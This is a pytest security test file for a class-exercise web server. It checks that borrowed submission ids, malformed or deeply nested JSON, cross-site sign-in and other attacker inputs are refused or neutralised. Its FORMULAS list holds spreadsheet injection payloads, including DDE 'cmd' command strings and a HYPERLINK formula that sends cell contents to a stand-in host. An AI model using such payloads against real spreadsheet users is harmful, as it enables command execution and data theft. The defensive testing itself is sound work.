"""The class server as an attacker tries it (issue 23): borrowed submission ids, bad JSON, lone
surrogates, aborted uploads, formulas in exports, cross-site sign-in, unbounded storage, file
permissions, leftover temporary files; and self-study's re-sent submissions."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import logging
import os
import stat
from concurrent.futures import ThreadPoolExecutor

import pytest
from starlette.testclient import TestClient

from membranelab.service.progress_store import ProgressStore
from membranelab.web import ServeConfig, create_app
from membranelab.web.config import PUBLISHED_PROGRESS
from membranelab.web.state import COOKIE

from .conftest import BASE, csrf_of, login_form, make_class, signed_in

FORMULAS = ['=HYPERLINK("http://example.invalid/?x="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1+2", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def _answer(client, part, answer, *, problem="nernst-potassium", uid=None):
    data = {"csrf": csrf_of(client.get(f"/p/{problem}").text), "part": part, "answer": answer}
    if uid:
        data["uid"] = uid
    return client.post(f"/p/{problem}/answer", data=data, headers={"Accept": "application/json"})


class TestSubmissionIds:
    def test_a_borrowed_id_is_the_borrowers_own_new_submission(self, klass):
        """bob re-using alice's id gets his own verdict, recorded as his try; alice's stays."""
        app, tokens, _ = klass
        alice, bob = signed_in(app, tokens["alice"]), signed_in(app, tokens["bob"])
        uid = "alice-submission-0001"
        first = _answer(alice, "E_K", "-50 mV", uid=uid).json()
        assert first["tries"] == 1 and first["correct"] is False
        # bob's own E_K is -74.26 mV (test_classmode.BOB_E_K, by hand)
        got = _answer(bob, "E_K", "-74.26 mV", uid=uid).json()
        assert got["correct"] is True and got["tries"] == 1 and got["left"] == 1
        subs = app.state.web.db.list_submissions()
        assert [(s.student, s.answer) for s in subs] == [("alice", "-50 mV"),
                                                         ("bob", "-74.26 mV")]

    def test_a_re_sent_id_of_ones_own_is_recorded_once(self, klass):
        """alice sending the same id twice gets the recorded verdict; one try is used."""
        app, tokens, _ = klass
        alice = signed_in(app, tokens["alice"])
        one = _answer(alice, "E_K", "-50 mV", uid="same-id-000001").json()
        two = _answer(alice, "E_K", "-50 mV", uid="same-id-000001").json()
        assert one["tries"] == two["tries"] == 1 and app.state.web.db.count() == 1


class TestBadRequests:
    @pytest.mark.parametrize("body", [
        "[" * 5000 + "]" * 5000,  # deeper than the JSON parser recurses
        '{"problem": "' + "[" * 3 + '"',  # malformed
        '{"problem": "\\ud800", "part": "E_K", "answer": "1 mV"}',  # a lone surrogate
        '{"problem": "nernst-potassium", "part": "\\udfff", "answer": "1 mV"}',
    ], ids=["too_deep", "malformed", "surrogate_problem", "surrogate_part"])
    @pytest.mark.parametrize("path", ["/api/preview", "/api/grade"])
    def test_400_with_one_log_line(self, study, caplog, path, body):
        """Bad JSON and ids that are not text: 400 and one line in the log, never a 500."""
        csrf = csrf_of(study.get("/p/nernst-potassium").text)
        caplog.clear()
        with caplog.at_level(logging.INFO, logger="membranelab"):
            reply = study.post(path, content=body.encode("utf-8", "surrogatepass"),
                               headers={"Content-Type": "application/json",
                                        "X-CSRF-Token": csrf})
        assert reply.status_code == 400 and "error" in reply.json()
        lines = [r for r in caplog.records if r.name.startswith("membranelab")]
        assert len(lines) == 1 and lines[0].exc_info is None and "\n" not in lines[0].getMessage()

    def test_aborted_upload_is_one_log_line(self, tmp_path, caplog):
        """A client gone before its body arrived: one warning, no traceback, nothing raised."""
        app = create_app(ServeConfig(student="alice", lang="en",
                                     progress_path=tmp_path / "progress.json"))
        scope = {"type": "http", "http_version": "1.1", "method": "POST", "scheme": "http",
                 "path": "/p/nernst-potassium/answer", "raw_path": b"/p/nernst-potassium/answer",
                 "root_path": "", "query_string": b"", "server": ("127.0.0.1", 8000),
                 "client": ("127.0.0.1", 5555), "headers": [
                     (b"host", b"127.0.0.1"), (b"content-length", b"1000"),
                     (b"content-type", b"application/x-www-form-urlencoded")]}
        sent = []

        async def receive():
            return {"type": "http.disconnect"}

        async def send(message):
            sent.append(message)

        with caplog.at_level(logging.INFO):
            asyncio.run(app(scope, receive, send))
        lines = [r for r in caplog.records if r.name.startswith("membranelab")]
        assert len(lines) == 1 and lines[0].levelno == logging.WARNING
        assert lines[0].exc_info is None and "went away" in lines[0].getMessage()


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


class TestExports:
    def test_no_cell_a_spreadsheet_would_run(self, klass):
        """Answers such as =HYPERLINK(...) or @SUM(...) reach the exports with a leading quote."""
        app, tokens, teacher = klass
        alice = signed_in(app, tokens["alice"])
        for text in FORMULAS[:3]:
            _answer(alice, "E_K", text)
        _answer(alice, "direction", FORMULAS[3])
        export = signed_in(app, teacher).get("/teacher/submissions.csv").text
        rows = _rows(export)
        assert sorted(r["answer"] for r in rows) == sorted("'" + f for f in FORMULAS[:4])
        for row in csv.reader(io.StringIO(export)):
            for cell in row:
                assert cell[:1] not in ("=", "+", "@", "-", "\t", "\r"), cell


class TestSignIn:
    def test_following_a_link_sets_no_cookie(self, klass):
        """GET /login?token= (a link another site can make a browser follow) only asks."""
        app, tokens, _ = klass
        client = TestClient(app, base_url=BASE)
        reply = client.get(f"/login?token={tokens['alice']}", follow_redirects=False)
        assert reply.status_code == 200 and COOKIE not in reply.cookies
        assert "Sign in as Alice A" in reply.text
        assert client.get("/p/nernst-potassium", follow_redirects=False).status_code == 401

    def test_a_post_without_the_forms_token_is_refused(self, klass):
        """Another site's form (no nonce cookie, no CSRF token) signs nobody in."""
        app, tokens, _ = klass
        client = TestClient(app, base_url=BASE)
        reply = client.post("/login", data={"token": tokens["alice"]}, follow_redirects=False)
        assert reply.status_code == 403 and COOKIE not in reply.cookies
        assert "did not come from this site" in reply.text

    @pytest.mark.parametrize("header", [{"Origin": "http://evil.example"},
                                        {"Sec-Fetch-Site": "cross-site"}])
    def test_a_cross_site_post_is_refused(self, klass, header):
        """Even with the form's fields, a browser's cross-site POST is refused."""
        app, tokens, _ = klass
        client = TestClient(app, base_url=BASE)
        fields = login_form(client.get(f"/login?token={tokens['alice']}").text)
        reply = client.post("/login", data=fields, headers=header, follow_redirects=False)
        assert reply.status_code == 403 and COOKIE not in reply.cookies

    def test_the_same_site_confirmation_signs_in(self, klass):
        """The confirmation form posted from the page itself sets the cookie."""
        app, tokens, _ = klass
        client = TestClient(app, base_url=BASE)
        fields = login_form(client.get(f"/login?token={tokens['alice']}").text)
        reply = client.post("/login", data=fields, follow_redirects=False,
                            headers={"Origin": BASE, "Sec-Fetch-Site": "same-origin"})
        assert reply.status_code == 303 and COOKIE in reply.cookies


class TestStorage:
    def test_unreadable_submissions_are_capped(self, klass):
        """Unreadable answers cost no try but are stored: past tries + 20 of a part, 429."""
        app, tokens, _ = klass
        alice = signed_in(app, tokens["alice"])
        limit = 2 + app.state.web.config.limits.max_unread  # klass: 2 tries
        codes = [_answer(alice, "E_K", "mV mV mV").status_code for _ in range(limit + 2)]
        assert codes == [200] * limit + [429, 429]
        assert app.state.web.db.count() == limit

    def test_class_db_and_tokens_are_owner_only(self, tmp_path):
        """class.db (made by the token step) and the tokens file are 0600 under umask 022."""
        from membranelab.web.roster import write_tokens

        old = os.umask(0o022)
        try:
            app, _, _ = make_class(tmp_path)
            write_tokens(tmp_path / "tokens.csv", [("student", "a", "A", "tok", "link")])
        finally:
            os.umask(old)
        app.state.web.db.close()
        for name in ("class.db", "tokens.csv"):
            assert stat.S_IMODE((tmp_path / name).stat().st_mode) == 0o600, name

    def test_figures_directory_goes_with_the_server(self, tmp_path):
        """The temporary figures directory is removed when the server shuts down."""
        app = create_app(ServeConfig(student="alice", lang="en",
                                     progress_path=tmp_path / "progress.json"))
        figures = app.state.web.figures_dir
        with TestClient(app, base_url=BASE) as client:
            assert client.get("/").status_code == 200 and figures.is_dir()
        assert not figures.exists()


class TestSelfStudyResends:
    def test_twenty_concurrent_resends_record_one_try(self, study, tmp_path):
        """The same submission id sent 20 times at once is one try."""
        csrf = csrf_of(study.get("/p/nernst-potassium").text)
        data = {"csrf": csrf, "part": "E_K", "answer": "-50 mV", "uid": "resent-000000001"}

        def send(_):
            return study.post("/p/nernst-potassium/answer", data=data,
                              headers={"Accept": "application/json"}).status_code

        with ThreadPoolExecutor(20) as pool:
            codes = list(pool.map(send, range(20)))
        assert set(codes) <= {200, 409}
        progress = ProgressStore(tmp_path / "progress.json").get("alice", "nernst-potassium")
        assert progress.tries == {"E_K": 1}

    def test_practice_does_not_overwrite_a_right_answer_from_the_browser(self, tmp_path):
        """practice (loaded before) saves a wrong try after the browser's right answer: the file
        keeps the right answer's score and counts both tries."""
        path = tmp_path / "progress.json"
        app = create_app(ServeConfig(published=True, lang="en", progress_path=path))
        practice = ProgressStore(path)
        practice.get(PUBLISHED_PROGRESS, "nernst-potassium")
        with TestClient(app, base_url=BASE) as browser:
            # canonical nernst-potassium: E_K = 26.727 mV * ln(4/140) = -95.02 mV (by hand,
            # test_browser.E_K)
            assert _answer(browser, "E_K", "-95.02 mV").json()["correct"] is True
        mine = practice.get(PUBLISHED_PROGRESS, "nernst-potassium")  # practice: a wrong try
        mine.tries["E_K"] = mine.tries.get("E_K", 0) + 1
        mine.scores["E_K"] = max(mine.scores.get("E_K", 0.0), 0.0)
        assert practice.save()
        saved = json.loads(path.read_text(encoding="utf-8"))
        entry = saved["students"][PUBLISHED_PROGRESS]["problems"]["nernst-potassium"]
        assert entry["scores"]["E_K"] == 1.0 and entry["tries"]["E_K"] == 2
